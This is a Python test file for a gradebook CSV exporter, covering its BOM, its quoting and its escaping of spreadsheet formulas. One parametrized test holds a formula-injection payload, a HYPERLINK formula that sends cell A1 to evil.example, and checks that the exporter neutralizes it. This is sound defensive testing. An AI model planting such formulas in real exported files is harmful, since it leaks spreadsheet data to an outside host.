"""The gradebook as CSV, read back with the csv module."""

from __future__ import annotations

import pytest

from resolvers.reports.gradebook import SheetAssignment, SheetRow
from resolvers.reports.spreadsheets import gradebook_csv, neutralize_formula
from tests.resolvers.reports.samples import read_csv, sheet


def test_csv_has_a_bom_and_round_trips() -> None:
    data = gradebook_csv(sheet())
    assert data.startswith(b"\xef\xbb\xbf")
    assert read_csv(data) == [
        [
            "Student number",
            "Student",
            "Quiz 1 (10)",
            "Lab report (25.5)",
            "Midterm (100)",
            "Final %",
            "Letter",
        ],
        ["S001", "Zoë Ångström", "8.5", "20", "0.3", "91.25", "A-"],
        ["S002", "Łukasz Nguyễn", "10", "", "88", "87", "B+"],
        ["S003", "Ivan Petrov", "", "", "", "", ""],
    ]


def test_csv_quotes_commas_quotes_and_newlines() -> None:
    row = SheetRow('Smith, "Jo"\nJr.', "S9", [1, 2, 3])
    assert read_csv(gradebook_csv(sheet([row])))[1][:2] == ["S9", 'Smith, "Jo"\nJr.']


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_csv_neutralizes_formulas_in_every_text_cell(start: str) -> None:
    payload = f'{start}HYPERLINK("http://evil.example/?"&A1,"x")'
    data = gradebook_csv(
        sheet(
            [SheetRow(payload, f"{start}42", [1], 50, f"{start}A")],
            [SheetAssignment(payload, "Quiz", 10)],
        )
    )
    header, row = read_csv(data)
    assert header[2] == f"'{payload} (10)"
    assert row == [f"'{start}42", f"'{payload}", "1", "50", f"'{start}A"]


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("=1+1", "'=1+1"),
        ("-5", "'-5"),
        ("O'Brien", "O'Brien"),
        ("a=b", "a=b"),
        (" =x", " =x"),
        ("", ""),
    ],
)
def test_neutralize_formula(text: str, expected: str) -> None:
    assert neutralize_formula(text) == expected


def test_csv_of_an_empty_gradebook_is_its_header() -> None:
    assert read_csv(gradebook_csv(sheet([], []))) == [["Student number", "Student", "Final %", "Letter"]]
